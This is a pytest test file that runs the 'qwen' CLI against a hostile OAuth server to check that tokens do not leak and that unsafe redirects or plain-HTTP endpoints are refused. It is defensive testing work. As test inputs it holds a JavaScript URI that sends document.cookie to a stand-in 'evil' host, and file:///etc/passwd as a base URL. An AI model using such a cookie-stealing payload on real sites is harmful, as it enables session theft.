"""A hostile or broken OAuth server against the real `qwen` (subprocesses): `qwen auth login --method qwen-oauth`
and `qwen ask` with a stored login. Canary tokens must never appear on stdout or stderr, every failure is one
`Error:` line with a hint and its documented exit code, and a failed refresh leaves oauth_creds.json as it was.
Requests to anything but loopback are caught by the netguard (the autouse `isolated` fixture fails the test)."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time

import pytest

from tests.auth.helpers import CANARY_ACCESS, CANARY_REFRESH
from tests.helpers import qwen_command, run_qwen
from tests.servers.oauth_script import OAuthScript, echo, hang, html, oauth_error, redirect, text

CANARY_DEVICE = "dc-CANARY-device-code-77e1c0"
CANARIES = (CANARY_ACCESS, CANARY_REFRESH, CANARY_DEVICE)


def _check(result, code: int, *words: str, debug: bool = False) -> None:
    output = result.stdout + result.stderr
    assert result.exit_code == code, output
    assert debug or "Traceback" not in output  # --debug shows one on purpose (redacted)
    errors = [line for line in result.stderr.splitlines() if line.startswith("Error: ")]
    assert len(errors) == 1, result.stderr
    assert any(line.startswith("Hint: ") for line in result.stderr.splitlines()), result.stderr
    for canary in CANARIES:
        assert canary not in output, f"{canary} leaked:\n{output}"
    for word in words:
        assert word in errors[0], errors[0]


def _seed(home, expires_in: float = -60) -> bytes:
    """An expired stored login holding the canaries: the next `qwen ask` must refresh it."""
    home.mkdir(parents=True, exist_ok=True, mode=0o700)
    path = home / "oauth_creds.json"
    path.write_text(
        json.dumps(
            {
                "access_token": CANARY_ACCESS,
                "refresh_token": CANARY_REFRESH,
                "token_type": "Bearer",
                "expiry_date": int((time.time() + expires_in) * 1000),
            }
        )
    )
    os.chmod(path, 0o600)
    return path.read_bytes()


def _ask(server: OAuthScript, args=("ask", "hi"), **env):
    return run_qwen(
        list(args), env={"QWEN_AUTH_METHOD": "qwen-oauth", "QWEN_OAUTH_BASE_URL": server.base, **env}, timeout=60
    )


def _login(server_or_base, **env):
    base = server_or_base if isinstance(server_or_base, str) else server_or_base.base
    return run_qwen(["auth", "login", "--method", "qwen-oauth"], env={"QWEN_OAUTH_BASE_URL": base, **env}, timeout=60)


def _unchanged(home, before: bytes) -> None:
    assert (home / "oauth_creds.json").read_bytes() == before
    assert not (home / "oauth_creds.lock").exists()


# -- secrets echoed back by the server -------------------------------------------------------------------


@pytest.mark.parametrize("args", [("ask", "hi"), ("--debug", "ask", "hi"), ("ask", "-o", "json", "hi")])
def test_a_token_endpoint_echoing_the_refresh_token_does_not_print_it(script, isolated, args):
    before = _seed(isolated.qwen_home)
    script.refreshes(
        echo(400, {"error": "invalid_request", "error_description": "refresh_token {refresh_token} is malformed"})
    )
    result = _ask(script, args)
    _check(result, 3, "refused the token refresh", "invalid_request", debug="--debug" in args)
    if "json" in args:
        assert json.loads(result.stdout.splitlines()[-1])["error"]["exit_code"] == 3
    assert script.refresh_requests[0].form["refresh_token"] == CANARY_REFRESH  # it was echoed, and hidden
    _unchanged(isolated.qwen_home, before)


@pytest.mark.parametrize(
    "answer",
    [
        text(500, f"internal error while checking {CANARY_REFRESH}"),
        html(404, f"Unknown token {CANARY_REFRESH}"),
        oauth_error("invalid_grant", 400, f"{CANARY_REFRESH} was revoked; access {CANARY_ACCESS} too"),
    ],
)
def test_secrets_in_any_error_body_stay_hidden(script, isolated, answer):
    before = _seed(isolated.qwen_home)
    script.refreshes(answer)
    result = _ask(script, ("--debug", "ask", "hi"))
    assert result.exit_code in (3, 5), result.output
    _check(result, result.exit_code, debug=True)
    _unchanged(isolated.qwen_home, before)


def test_a_login_poll_echoing_the_device_code_does_not_print_it(script, isolated):
    script.device(device_code=CANARY_DEVICE, interval=0)
    script.polls(echo(400, {"error": "invalid_grant", "error_description": "device_code {device_code} unknown"}))
    result = run_qwen(["--debug", "auth", "login", "--method", "qwen-oauth"], env={"QWEN_OAUTH_BASE_URL": script.base})
    _check(result, 3, "invalid_grant", debug=True)
    assert script.poll_requests[0].form["device_code"] == CANARY_DEVICE
    assert not (isolated.qwen_home / "oauth_creds.json").exists()


# -- where the refresh token may go ------------------------------------------------------------------------


@pytest.mark.parametrize("base", ["http://oauth.example.test", "http://10.0.0.7:8080", "file:///etc/passwd"])
def test_a_refresh_over_plain_http_to_another_machine_is_refused(isolated, base):
    before = _seed(isolated.qwen_home)
    result = run_qwen(["ask", "hi"], env={"QWEN_AUTH_METHOD": "qwen-oauth", "QWEN_OAUTH_BASE_URL": base})
    _check(result, 8, repr(base), "auth.qwen_oauth.base_url")
    _unchanged(isolated.qwen_home, before)


def test_a_login_over_plain_http_to_another_machine_is_refused(isolated):
    result = _login("http://oauth.example.test")
    _check(result, 8, "'http://oauth.example.test'", "auth.qwen_oauth.base_url")


@pytest.mark.parametrize("status", [307, 308])
def test_a_redirected_refresh_is_not_followed(script, trap, isolated, status):
    before = _seed(isolated.qwen_home)
    script.refreshes(redirect(trap.base + "/api/v1/oauth2/token", status))
    result = _ask(script)
    _check(result, 8, f"127.0.0.1:{script.port}", f"127.0.0.1:{trap.port}", "redirect")
    assert trap.requests == []
    _unchanged(isolated.qwen_home, before)


def test_a_redirected_device_request_is_not_followed(script, trap, isolated):
    script.device(redirect(trap.base + "/api/v1/oauth2/device/code", 308))
    result = _login(script)
    _check(result, 8, f"127.0.0.1:{script.port}", f"127.0.0.1:{trap.port}")
    assert trap.requests == []


def test_metadata_pointing_the_token_endpoint_elsewhere_over_http_is_refused(script, trap, isolated):
    before = _seed(isolated.qwen_home)
    script.metadata = {
        "issuer": script.base,
        "token_endpoint": trap.base.replace("127.0.0.1", "127.0.0.2") + "/t",
        "device_authorization_endpoint": script.base + "/api/v1/oauth2/device/code",
    }
    result = _ask(script)
    _check(result, 8, "token_endpoint", "not https")
    assert trap.requests == [] and script.refresh_requests == []
    _unchanged(isolated.qwen_home, before)


# -- answers that are not OAuth ---------------------------------------------------------------------------


@pytest.mark.parametrize("status, title", [(200, "Hotel Wi-Fi: please log in"), (404, "404 Not Found")])
def test_an_html_page_answering_a_refresh_is_not_a_lost_login(script, isolated, status, title):
    before = _seed(isolated.qwen_home)
    script.refreshes(html(status, title))
    result = _ask(script)
    _check(result, 5, f"127.0.0.1:{script.port}", f"HTTP {status}", "HTML page")
    assert "revoked" not in result.stderr and "log in again" not in result.stderr.lower()
    _unchanged(isolated.qwen_home, before)


def test_a_refresh_that_hangs_times_out_and_keeps_the_login(script, isolated):
    before = _seed(isolated.qwen_home)
    script.refreshes(hang(10))
    result = _ask(script, QWEN_NETWORK_READ_TIMEOUT="1")
    _check(result, 6, f"127.0.0.1:{script.port}")
    _unchanged(isolated.qwen_home, before)


# -- the device reply -------------------------------------------------------------------------------------


@pytest.mark.parametrize("field", ["verification_uri_complete", "verification_uri"])
@pytest.mark.parametrize("uri", ["javascript:fetch('//evil/'+document.cookie)", "file:///etc/passwd"])
def test_a_javascript_or_file_verification_uri_is_neither_shown_nor_opened(script, isolated, tmp_path, field, uri):
    opened = tmp_path / "opened.txt"
    browser = tmp_path / "browser.sh"
    browser.write_text(f'#!/bin/sh\necho "$@" >> {opened}\n')
    browser.chmod(0o755)
    script.device(**{field: uri}, expires_in=3)  # were it accepted, the login would end within seconds
    result = _login(script, DISPLAY=":0", BROWSER=str(browser))
    _check(result, 3, field)
    time.sleep(0.3)
    assert not opened.exists()
    assert "Opened your browser" not in result.stderr and "Code:" not in result.stderr
    assert script.poll_requests == []


@pytest.mark.parametrize(
    "field, raw",
    [
        ("expires_in", '"abc"'),
        ("expires_in", "Infinity"),
        ("interval", "1e308"),
        ("expires_in", "-600"),
        ("interval", "NaN"),
    ],
)
def test_unusable_numbers_in_the_device_reply_are_exit_3(script, isolated, field, raw):
    body = script.device_body()
    body.pop(field)
    script.device(_raw(body, field, raw))
    result = _login(script)
    _check(result, 3, field)


def _raw(body: dict, field: str, raw: str):
    from tests.servers.oauth_script import json_answer

    return json_answer(200, json.dumps(body)[:-1] + f', "{field}": {raw}}}')


def test_interval_zero_does_not_become_a_busy_loop(script, isolated):
    """Before: 69 polls in 3 s. The floor is 5 s, so at most one poll fits in this window."""
    script.device(interval=0)
    env = dict(os.environ, QWEN_OAUTH_BASE_URL=script.base)
    proc = subprocess.Popen(
        qwen_command() + ["auth", "login", "--method", "qwen-oauth"],
        env=env,
        stdin=subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 20
        while not script.device_requests and time.monotonic() < deadline:
            time.sleep(0.05)
        assert script.device_requests, "no device request"
        time.sleep(3)
        assert len(script.poll_requests) <= 1, script.poll_gaps()
    finally:
        proc.send_signal(signal.SIGINT)
        _out, err = proc.communicate(timeout=20)
    assert proc.returncode == 130, err
    for canary in CANARIES:
        assert canary.encode() not in err
